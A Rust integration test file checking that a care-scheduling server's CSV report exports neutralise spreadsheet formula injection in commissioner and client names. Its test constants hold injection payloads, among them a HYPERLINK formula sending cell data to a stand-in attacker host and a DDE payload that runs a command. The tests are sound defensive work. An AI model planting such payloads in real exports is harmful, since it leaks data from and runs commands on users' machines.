//! CSV exports from the real server never hand a spreadsheet a formula: commissioners named like
//! formulas come out as quoted text with a leading single quote, and negative figures stay numbers.

use caresync_core::domain::*;
use caresync_tests::*;
use serde_json::{json, Value};

/// RFC 4180 fields of each line (quoted fields may hold commas, quotes and line breaks).
fn parse_csv(text: &str) -> Vec<Vec<(String, bool)>> {
    let mut lines = Vec::new();
    let (mut line, mut field, mut quoted, mut was_quoted) = (Vec::new(), String::new(), false, false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => {
                quoted = true;
                was_quoted = true;
            }
            (false, ',') => line.push((std::mem::take(&mut field), std::mem::take(&mut was_quoted))),
            (false, '\r') => {}
            (false, '\n') => {
                line.push((std::mem::take(&mut field), std::mem::take(&mut was_quoted)));
                lines.push(std::mem::take(&mut line));
            }
            (false, c) => field.push(c),
        }
    }
    lines
}

/// (A leading tab or carriage return cannot reach a name through the API, which trims names and
/// refuses control characters; the CSV writer's unit tests cover those.)
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Council portal\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
];

#[test]
fn commissioners_named_like_formulas_are_exported_as_text() -> TestResult {
    let world = World::start()?;
    let office = &world.office;
    let carer = office.create_person("Ann", "carer")?;
    let client = office.create_client("Mrs Jones", None)?;
    let start = now() - 3 * HOUR_MS;
    for (n, commissioner) in HOSTILE.iter().enumerate() {
        let (status, contract) = office.call(
            "POST",
            "/api/v1/contracts",
            Some(json!({"name": format!("Contract {n}"), "commissioner": commissioner, "model": "spot", "rules": {}})),
        )?;
        assert_eq!(status, 201, "{contract}");
        let contract: ContractId = contract["id"].as_str().ok_or("no id")?.parse()?;
        office.create_visit_for(client, contract, &[carer], start + n as i64 * MINUTE_MS, 30)?;
    }
    let from = chrono::DateTime::from_timestamp_millis(start - 8 * DAY_MS)
        .ok_or("date")?
        .date_naive();
    let to = from + chrono::Duration::days(16);
    let window = format!("from={from}&to={to}");

    let (status, text) = office.call(
        "GET",
        &format!("/api/v1/reports/punctuality.csv?{window}&group_by=commissioner&period=month"),
        None,
    )?;
    assert_eq!(status, 200, "{text}");
    let text = text.as_str().ok_or("csv is text")?.to_string();
    let lines = parse_csv(&text);
    let group = lines[0]
        .iter()
        .position(|(c, _)| c == "group")
        .ok_or("no group column")?;
    let groups: Vec<&(String, bool)> = lines[1..].iter().map(|l| &l[group]).collect();
    for commissioner in HOSTILE {
        assert!(
            groups.contains(&&(format!("'{commissioner}"), true)),
            "{commissioner:?} is not quoted text with a leading single quote: {groups:?}"
        );
    }
    // No field anywhere starts a formula unless it is a number.
    for fields in &lines {
        for (field, _) in fields {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']) || field.parse::<f64>().is_ok(),
                "{field:?} in {text:?}"
            );
        }
    }

    // Reconciliation: nobody came, so delivered minus authorised is negative, and a number.
    let (status, text) = office.call(
        "GET",
        &format!("/api/v1/reports/reconciliation.csv?{window}"),
        None,
    )?;
    assert_eq!(status, 200, "{text}");
    let text = text.as_str().ok_or("csv is text")?.to_string();
    let lines = parse_csv(&text);
    let column = lines[0]
        .iter()
        .position(|(c, _)| c == "delivered_minus_authorised")
        .ok_or("no difference column")?;
    let differences: Vec<&(String, bool)> = lines[1..].iter().map(|l| &l[column]).collect();
    assert!(!differences.is_empty());
    for (field, quoted) in differences {
        assert!(
            !quoted && field.parse::<i64>().is_ok_and(|m| m < 0),
            "{field:?} in {text:?}"
        );
    }
    Ok(())
}

/// A client whose name is a formula: names are user input and must reach a spreadsheet as text.
const HOSTILE_CLIENT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mrs Jones\")";

/// A report's CSV header, its parsed lines (header first) and its JSON rows.
type Export = (Vec<String>, Vec<Vec<(String, bool)>>, Vec<Value>);

/// Fetches a report as JSON rows and as CSV; checks the CSV has exactly the JSON's fields as
/// columns, each cell the JSON's value (text neutralised, percentages to one decimal), and
/// returns the CSV's header and lines.
fn csv_and_json(office: &Office, path: &str, rows_of: fn(&Value) -> &Value) -> TestResult<Export> {
    let (status, json) = office.call("GET", path, None)?;
    assert_eq!(status, 200, "{path}: {json}");
    let rows = rows_of(&json).as_array().ok_or("rows")?.clone();
    let csv_path = match path.split_once('?') {
        Some((p, q)) => format!("{p}.csv?{q}"),
        None => format!("{path}.csv"),
    };
    let (status, text) = office.call("GET", &csv_path, None)?;
    assert_eq!(status, 200, "{csv_path}: {text}");
    let text = text.as_str().ok_or("csv is text")?.to_string();
    let lines = parse_csv(&text);
    let header: Vec<String> = lines[0].iter().map(|(c, _)| c.clone()).collect();
    assert_eq!(lines.len(), rows.len() + 1, "{csv_path}: {text}");
    for (line, row) in lines[1..].iter().zip(&rows) {
        let object = row.as_object().ok_or("row is an object")?;
        let mut fields: Vec<&String> = object.keys().collect();
        fields.sort();
        let mut columns: Vec<&String> = header.iter().collect();
        columns.sort();
        assert_eq!(fields, columns, "{csv_path}: CSV columns are the JSON fields");
        for (column, (field, _)) in header.iter().zip(line) {
            match &row[column] {
                Value::Null => assert_eq!(field, "", "{column}"),
                Value::String(s) if s.starts_with(['=', '+', '-', '@']) => {
                    assert_eq!(field, &format!("'{s}"), "{column}")
                }
                Value::String(s) => assert_eq!(field, s, "{column}"),
                Value::Number(n) if column.ends_with("_pct") => {
                    assert_eq!(
                        field,
                        &format!("{:.1}", n.as_f64().unwrap_or(f64::NAN)),
                        "{column}"
                    )
                }
                Value::Number(n) => assert_eq!(field.parse::<f64>().ok(), n.as_f64(), "{column}"),
                other => assert_eq!(field, &other.to_string(), "{column}"),
            }
        }
    }
    // Percentages have at most one decimal; nothing is handed to a spreadsheet as a formula.
    for line in &lines[1..] {
        for (column, (field, _)) in header.iter().zip(line) {
            if column.ends_with("_pct") && !field.is_empty() {
                let decimals = field.split_once('.').map_or(0, |(_, d)| d.len());
                assert!(decimals <= 1, "{column} = {field} in {text}");
            }
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']) || field.parse::<f64>().is_ok(),
                "{field:?} in {text:?}"
            );
        }
    }
    Ok((header, lines, rows))
}

fn rows(report: &Value) -> &Value {
    &report["rows"]
}

fn itself(rows: &Value) -> &Value {
    rows
}

fn column(header: &[String], name: &str) -> TestResult<usize> {
    Ok(header
        .iter()
        .position(|c| c == name)
        .ok_or(format!("no {name} column in {header:?}"))?)
}

#[test]
fn exports_name_clients_carers_teams_and_contracts_beside_their_ids() -> TestResult {
    let world = World::start()?;
    let office = &world.office;
    let (_, team) = office.call("POST", "/api/v1/teams", Some(json!({"name": "North"})))?;
    let team: TeamId = team["id"].as_str().ok_or("team id")?.parse()?;
    let (status, ann) = office.call(
        "POST",
        "/api/v1/people",
        Some(json!({"name": "Ann Carer", "role": "carer", "team_id": team})),
    )?;
    assert_eq!(status, 201, "{ann}");
    let carer: PersonId = ann["person"]["id"].as_str().ok_or("carer id")?.parse()?;
    let code = office.enrolment_code(carer)?;
    let phone = Phone::enrol(
        world.dir.path(),
        &world.server.url,
        &code,
        std::sync::Arc::new(caresync_core::clock::SystemClock),
    )?;
    let client = office.create_client(HOSTILE_CLIENT, None)?;
    let (status, contract) = office.call(
        "POST",
        "/api/v1/contracts",
        Some(
            json!({"name": "Framework 2026", "commissioner": "Northshire CC", "model": "framework",
                    "rules": {"kpi": {"max_late_pct": 7.77, "max_missed_pct": 2.0}}}),
        ),
    )?;
    assert_eq!(status, 201, "{contract}");
    let contract: ContractId = contract["id"].as_str().ok_or("contract id")?.parse()?;
    // Three 30-minute visits within ten minutes, all over an hour past their end: Ann comes to
    // the first (late), nobody to the others (missed). Missed: 2 of 3 = 66.666…%.
    let first = now() - 2 * HOUR_MS - 10 * MINUTE_MS;
    let visits: Vec<VisitId> = (0..3)
        .map(|k| office.create_visit_for(client, contract, &[carer], first + k * 5 * MINUTE_MS, 30))
        .collect::<TestResult<_>>()?;
    phone.sync()?;
    phone
        .store
        .clock_in(visits[0], &caresync_core::ClockRequest::app())?;
    phone
        .store
        .clock_out(visits[0], &caresync_core::ClockRequest::app())?;
    let summary = phone.sync()?;
    assert!(summary.errors.is_empty(), "{:?}", summary.errors);

    let from = chrono::DateTime::from_timestamp_millis(first - DAY_MS)
        .ok_or("date")?
        .date_naive();
    let window = format!("from={from}&to={}", from + chrono::Duration::days(3));

    // Punctuality by contract, client, carer and team: the group's name beside its id.
    for (group_by, name) in [
        ("contract", "Framework 2026"),
        ("client", HOSTILE_CLIENT),
        ("carer", "Ann Carer"),
        ("team", "North"),
    ] {
        let (header, lines, json) = csv_and_json(
            office,
            &format!("/api/v1/reports/punctuality?{window}&group_by={group_by}&period=month"),
            rows,
        )?;
        let (group, group_name) = (column(&header, "group")?, column(&header, "group_name")?);
        assert_eq!(group_name, group + 1, "the name sits beside the id: {header:?}");
        assert!(
            json.iter().all(|r| r["group_name"] == name),
            "{group_by}: {json:?}"
        );
        let neutralised = if name.starts_with('=') {
            format!("'{name}")
        } else {
            name.to_string()
        };
        assert!(
            lines[1..]
                .iter()
                .all(|l| l[group_name] == (neutralised.clone(), name.starts_with('='))),
            "{group_by}: {lines:?}"
        );
        let month = |t: Millis| {
            chrono::DateTime::from_timestamp_millis(t)
                .map(|t| t.with_timezone(&chrono_tz_london()).format("%Y-%m").to_string())
        };
        if month(first) == month(first + 10 * MINUTE_MS) {
            assert_eq!(json.len(), 1, "{json:?}");
        }
        if group_by == "contract" && json.len() == 1 {
            // 2 missed of 1 attended + 2 missed, to one decimal; the JSON keeps the exact rate.
            assert_eq!(lines[1][column(&header, "missed_pct")?].0, "66.7");
            assert_eq!(lines[1][column(&header, "late_pct")?].0, "100.0");
            assert!((json[0]["missed_pct"].as_f64().unwrap_or(0.0) - 200.0 / 3.0).abs() < 1e-9);
        }
    }

    // KPI: the contract's name and commissioner beside its id; its maximum to one decimal.
    let (header, lines, _) = csv_and_json(office, &format!("/api/v1/reports/kpi?{window}"), itself)?;
    assert_eq!(&header[..3], &["contract_id", "contract_name", "commissioner"]);
    assert_eq!(lines[1][1].0, "Framework 2026");
    assert_eq!(lines[1][2].0, "Northshire CC");
    assert_eq!(lines[1][column(&header, "max_late_pct")?].0, "7.8");

    // Reconciliation: client and contract named; the formula-like client name is text.
    let (header, lines, json) = csv_and_json(
        office,
        &format!("/api/v1/reports/reconciliation?{window}"),
        itself,
    )?;
    for (id, name) in [("client_id", "client_name"), ("contract_id", "contract_name")] {
        assert_eq!(column(&header, name)?, column(&header, id)? + 1, "{header:?}");
    }
    assert_eq!(json[0]["client_name"], HOSTILE_CLIENT);
    assert_eq!(json[0]["commissioner"], "Northshire CC");
    let line = &lines[1];
    assert_eq!(line[column(&header, "client_id")?].0, client.to_string());
    assert_eq!(
        line[column(&header, "client_name")?],
        (format!("'{HOSTILE_CLIENT}"), true)
    );
    assert_eq!(line[column(&header, "contract_name")?].0, "Framework 2026");
    assert_eq!(line[column(&header, "commissioner")?].0, "Northshire CC");

    // Continuity: the client named.
    let (header, lines, _) = csv_and_json(office, &format!("/api/v1/reports/continuity?{window}"), itself)?;
    assert_eq!(
        lines[1][column(&header, "client_name")?],
        (format!("'{HOSTILE_CLIENT}"), true)
    );

    // Oversight figures keep their columns and add the team's id last.
    let (status, text) = office.call("GET", &format!("/api/v1/oversight/figures.csv?{window}"), None)?;
    assert_eq!(status, 200, "{text}");
    let text = text.as_str().ok_or("csv is text")?;
    assert!(
        text.starts_with("team,month,raised,")
            && text.lines().next().is_some_and(|h| h.ends_with(",team_id")),
        "{text}"
    );
    Ok(())
}
